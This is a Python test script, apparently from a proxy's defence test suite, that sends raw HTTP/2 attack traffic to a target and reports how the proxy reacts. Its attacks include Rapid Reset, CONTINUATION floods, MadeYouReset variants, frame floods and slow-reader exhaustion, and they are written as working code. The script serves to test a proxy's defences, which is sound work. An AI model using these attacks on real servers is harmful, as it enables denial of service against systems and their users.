"""Raw HTTP/2 attacks on a proxy, for ringmesh's defence tests (Debian
python3-h2 builds the frames; some are written byte by byte).

  h2_attack.py ATTACK HOST:PORT

ATTACK is one of rapid-reset, continuation-flood, ping-flood, window-update-flood, settings-flood,
big-headers, too-many-streams, table-size, silent (a client that never
answers PINGs: prints how long until the proxy closed it), and the
MadeYouReset variants (streams the proxy must reset itself, CVE-2025-8671):
reset-window-overflow, reset-data-after-end, reset-malformed,
reset-zero-window-update, reset-content-length; and floods of frames that
do no work: idle-empty-data, idle-priority, idle-unknown, idle-ping-ack,
idle-empty-headers, idle-mixed, idle-with-work (two idle frames per 1-byte
DATA frame), plus settings-window-overflow (SETTINGS_INITIAL_WINDOW_SIZE
2^31); slow-reader N SECONDS (N streams for 1 MiB each with an initial
window of 0, never opened: prints "holding" and holds the connection; a
fifth argument `orig-proto` marks them `l5d-orig-proto: HTTP/1.1`);
stall-then-read N SECONDS (the same N streams, windows opened after
SECONDS and everything read: prints "complete <bytes>"); cancel-answered
(not an attack: see `cancel_answered`). Prints one line:
  goaway <error code>     the proxy sent GOAWAY with that code
  reset <codes>           streams were reset (distinct codes, comma list)
  response <status>       a response arrived
  closed                  the connection closed without any of these
"""
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(addr):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def headers(stream_id, extra=()):
    return [(":method", "GET"), (":path", "/hello"), (":scheme", "http"), (":authority", "test")] + list(extra)


def goaway_in(raw):
    """The error code of the first GOAWAY among the whole frames of `raw`
    (everything the proxy sent), or None."""
    i = 0
    while i + 9 <= len(raw):
        length = struct.unpack(">I", b"\x00" + raw[i:i + 3])[0]
        if raw[i + 3] == 0x7 and i + 9 + length <= len(raw):
            return struct.unpack(">I", raw[i + 13:i + 17])[0]
        i += 9 + length
    return None


def outcome(s, conn, wait=5.0):
    """Reads until GOAWAY, a response, or close; what the proxy did."""
    resets = set()
    raw = b""
    raw_mode = False
    deadline = time.time() + wait
    s.settimeout(0.5)
    while time.time() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            if resets:
                break
            continue
        except (ConnectionResetError, BrokenPipeError):
            break
        if not data:
            break
        raw += data
        if not raw_mode:
            try:
                events = conn.receive_data(data)
            except Exception:
                # Frames our h2 state machine did not expect after what we
                # sent (resets of streams it never opened): from here on,
                # scan the raw frames for a GOAWAY instead.
                raw_mode = True
        if raw_mode:
            code = goaway_in(raw)
            if code is not None:
                return "goaway %d" % code
            continue
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                return "goaway %d" % e.error_code
            if isinstance(e, h2.events.StreamReset):
                resets.add(int(e.error_code))
            if isinstance(e, h2.events.ResponseReceived):
                status = dict(e.headers).get(b":status", b"?").decode()
                if not resets:
                    return "response " + status
        try:
            s.sendall(conn.data_to_send())
        except OSError:
            break
    code = goaway_in(raw)
    if code is not None:
        return "goaway %d" % code
    if resets:
        return "reset " + ",".join(str(c) for c in sorted(resets))
    sys.stderr.write("closed after %d bytes: %s\n" % (len(raw), summary(raw)))
    return "closed"


def summary(raw):
    kinds = {}
    i = 0
    while i + 9 <= len(raw):
        length = struct.unpack(">I", b"\x00" + raw[i:i + 3])[0]
        k = raw[i + 3] if raw[i + 3] != 3 else "rst%d" % struct.unpack(">I", raw[i + 9:i + 13])[0]
        kinds[k] = kinds.get(k, 0) + 1
        i += 9 + length
    return "frame types %s, %d bytes left over" % (kinds, len(raw) - i)


def slow_reader(addr, streams, seconds, extra=b""):
    """A client that asks for large responses and never reads them: its
    windows are 0 and never opened. `extra`: more of the header block."""
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=10)
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0x0, 0, struct.pack(">HI", 0x4, 0))
    path = b"/bytes/1048576"
    for i in range(streams):
        block = b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x04test" + extra
        out += frame(0x1, 0x5, 2 * i + 1, block)
    s.sendall(out)
    print("holding", flush=True)
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(0.1)
    s.close()


def stall_then_read(addr, streams, pause):
    """Streams asking for 1 MiB each with windows at 0 for `pause`
    seconds (they stall in the proxy), then opened: reads everything and
    prints "complete <bytes>", or "incomplete <bytes>" after 30 s."""
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=10)
    config = h2.config.H2Configuration(client_side=True)
    conn = h2.connection.H2Connection(config)
    conn.local_settings = h2.settings.Settings(client=True, initial_values={
        h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    conn.initiate_connection()
    for i in range(streams):
        conn.send_headers(2 * i + 1, [(":method", "GET"), (":path", "/bytes/1048576"),
                                      (":scheme", "http"), (":authority", "test")], end_stream=True)
    s.sendall(conn.data_to_send())
    got, ended = 0, set()
    end = time.time() + pause
    s.settimeout(0.2)
    opened = False
    deadline = time.time() + pause + 30
    while len(ended) < streams and time.time() < deadline:
        if not opened and time.time() >= end:
            conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
            conn.increment_flow_control_window(1 << 30)
            opened = True
        try:
            data = s.recv(1 << 20)
        except socket.timeout:
            data = None
        if data == b"":
            break
        if data:
            for e in conn.receive_data(data):
                if isinstance(e, h2.events.DataReceived):
                    got += len(e.data)
                    conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                    ended.add(e.stream_id)
        s.sendall(conn.data_to_send())
    print(("complete %d" if len(ended) == streams else "incomplete %d") % got, flush=True)
    s.close()


def cancel_answered(addr):
    """Not an attack: a busy client that cancels streams it was answered
    on (as Go's net/http does when a body is closed early), 50 at a time
    for 2 s (well over 200 a second), while a slow request is open on the
    same connection. Prints that request's outcome ("response 200": the
    connection was kept) and the number of cancels."""
    s, conn = connect(addr)
    slow = conn.get_next_available_stream_id()
    conn.send_headers(slow, [(":method", "GET"), (":path", "/slow/3000"), (":scheme", "http"), (":authority", "test")], end_stream=True)
    s.sendall(conn.data_to_send())
    s.settimeout(5)
    state = {"cancels": 0, "slow": None}

    def read(waiting):
        """One read: the slow request's status noted, each waiting stream
        cancelled once its head came. A string when the connection ended."""
        data = s.recv(65536)
        if not data:
            return "closed after %d cancels" % state["cancels"]
        for e in conn.receive_data(data):
            if isinstance(e, h2.events.ConnectionTerminated):
                return "goaway %d after %d cancels" % (e.error_code, state["cancels"])
            if isinstance(e, h2.events.ResponseReceived):
                if e.stream_id == slow:
                    state["slow"] = dict(e.headers).get(b":status", b"?").decode()
                elif e.stream_id in waiting:
                    waiting.discard(e.stream_id)
                    conn.reset_stream(e.stream_id, error_code=8)
                    state["cancels"] += 1
            if isinstance(e, h2.events.DataReceived) and e.stream_id == slow:
                conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
        s.sendall(conn.data_to_send())
        return None

    end = time.time() + 2.0
    while time.time() < end:
        waiting = set()
        for _ in range(50):
            sid = conn.get_next_available_stream_id()
            # (A body larger than the stream's window: still open when
            # its head arrives.)
            big = [(":method", "GET"), (":path", "/bytes/200000"), (":scheme", "http"), (":authority", "test")]
            conn.send_headers(sid, big, end_stream=True)
            waiting.add(sid)
        s.sendall(conn.data_to_send())
        while waiting:
            ended = read(waiting)
            if ended:
                print(ended)
                return
    while state["slow"] is None:
        ended = read(set())
        if ended:
            print(ended)
            return
    print("response %s after %d cancels" % (state["slow"], state["cancels"]))


def main():
    attack, addr = sys.argv[1], sys.argv[2]
    if attack == "stall-then-read":
        stall_then_read(addr, int(sys.argv[3]), float(sys.argv[4]))
        return
    if attack == "slow-reader":
        extra = b""
        if sys.argv[5:] == ["orig-proto"]:
            # As from a peer proxy: HTTP/1 carried over HTTP/2, so the
            # proxy speaks HTTP/1 to the origin.
            name, value = b"l5d-orig-proto", b"HTTP/1.1"
            extra = b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        slow_reader(addr, int(sys.argv[3]), float(sys.argv[4]), extra)
        return
    if attack == "cancel-answered":
        cancel_answered(addr)
        return
    s, conn = connect(addr)
    if attack == "rapid-reset":
        # CVE-2023-44487: open a stream and reset it at once, thousands of times.
        try:
            for i in range(2000):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers(sid))
                conn.reset_stream(sid)
                if i % 100 == 0:
                    s.sendall(conn.data_to_send())
            s.sendall(conn.data_to_send())
        except OSError:
            pass
    elif attack == "continuation-flood":
        # A header block that never ends: HEADERS without END_HEADERS, then
        # CONTINUATION frames forever (CVE-2024-27316 style).
        s.sendall(frame(0x1, 0x0, 1, b"\x82\x86\x84"))
        try:
            for _ in range(5000):
                s.sendall(frame(0x9, 0x0, 1, b"\x00\x01a\x01b" * 100))
        except OSError:
            pass
    elif attack == "ping-flood":
        try:
            for i in range(5000):
                s.sendall(frame(0x6, 0x0, 0, struct.pack(">Q", i)))
        except OSError:
            pass
    elif attack == "window-update-flood":
        # WINDOW_UPDATE +1 on the connection, for data never received:
        # 5000 of them (an increment of 1 takes 2^31 to overflow; 1024 are
        # allowed before any data).
        try:
            for i in range(50):
                s.sendall(frame(0x8, 0x0, 0, struct.pack(">I", 1)) * 100)
        except OSError:
            pass
    elif attack == "settings-flood":
        try:
            for i in range(5000):
                s.sendall(frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100)))
        except OSError:
            pass
    elif attack == "big-headers":
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers(sid, [("x-big", "a" * 200000)]), end_stream=True)
        s.sendall(conn.data_to_send())
    elif attack == "too-many-streams":
        for _ in range(50):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "GET"), (":path", "/hang"), (":scheme", "http"), (":authority", "test")], end_stream=True)
        s.sendall(conn.data_to_send())
    elif attack.startswith("reset-"):
        # MadeYouReset: each stream is made an error the proxy resets
        # itself, thousands of times (the client never sends RST_STREAM).
        # Raw frames: our own h2 state machine would refuse to send them.
        get = b"\x82\x86\x84\x01\x04test"  # GET http://test/
        try:
            for i in range(5000):
                sid = 2 * i + 1
                block = get + (b"\x00\x0aconnection\x05close" if attack == "reset-malformed" else b"")
                out = frame(0x1, 0x5, sid, block)  # END_STREAM | END_HEADERS
                if attack == "reset-window-overflow":
                    out += frame(0x8, 0x0, sid, struct.pack(">I", 0x7FFFFFFF))
                elif attack == "reset-zero-window-update":
                    out += frame(0x8, 0x0, sid, struct.pack(">I", 0))
                elif attack == "reset-data-after-end":
                    out += frame(0x0, 0x0, sid, b"x")
                elif attack == "reset-content-length":
                    # content-length: 2, then 1 byte and END_STREAM.
                    out = frame(0x1, 0x4, sid, block + b"\x0f\x0d\x012") + frame(0x0, 0x1, sid, b"x")
                s.sendall(out)
        except OSError:
            pass
    elif attack.startswith("idle-"):
        # POST /echo, body never ended; then frames that do no work.
        post = b"\x83\x86\x04\x05/echo\x01\x04test"
        s.sendall(frame(0x1, 0x4, 1, post))
        kinds = {
            "idle-empty-data": [frame(0x0, 0x0, 1, b"")],
            "idle-priority": [frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10")],
            "idle-unknown": [frame(0xfa, 0x0, 0, b"")],
            "idle-ping-ack": [frame(0x6, 0x1, 0, b"\x00" * 8)],
            # An empty header block fragment on a new stream, ended at once
            # by an empty CONTINUATION: one opens a stream, so both count.
            "idle-empty-headers": None,
            "idle-mixed": [frame(0x0, 0x0, 1, b""), frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10"),
                           frame(0xfa, 0x0, 0, b""), frame(0x6, 0x1, 0, b"\x00" * 8)],
            "idle-with-work": [frame(0x0, 0x0, 1, b"x"), frame(0x0, 0x0, 1, b""), frame(0x2, 0x0, 1, b"\x00\x00\x00\x00\x10")],
        }[attack]
        try:
            for i in range(20000):
                if kinds is None:
                    sid = 2 * i + 3
                    batch = [frame(0x1, 0x0, sid, b""), frame(0x9, 0x0, sid, b""), frame(0x9, 0x4, sid, b"")]
                else:
                    batch = kinds * 10
                s.sendall(b"".join(batch))
        except OSError:
            pass
    elif attack == "settings-window-overflow":
        s.sendall(frame(0x4, 0x0, 0, struct.pack(">HI", 0x4, 2**31)))
    elif attack == "silent":
        # Never answers anything (PINGs included): reads until the proxy
        # closes the connection.
        s.settimeout(10)
        start = time.time()
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
        print("closed after %.1f s" % (time.time() - start), flush=True)
        return
    elif attack == "table-size":
        conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 2**31 - 1})
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers(sid), end_stream=True)
        s.sendall(conn.data_to_send())
    else:
        print("unknown attack " + attack)
        sys.exit(2)
    print(outcome(s, conn), flush=True)


if __name__ == "__main__":
    main()
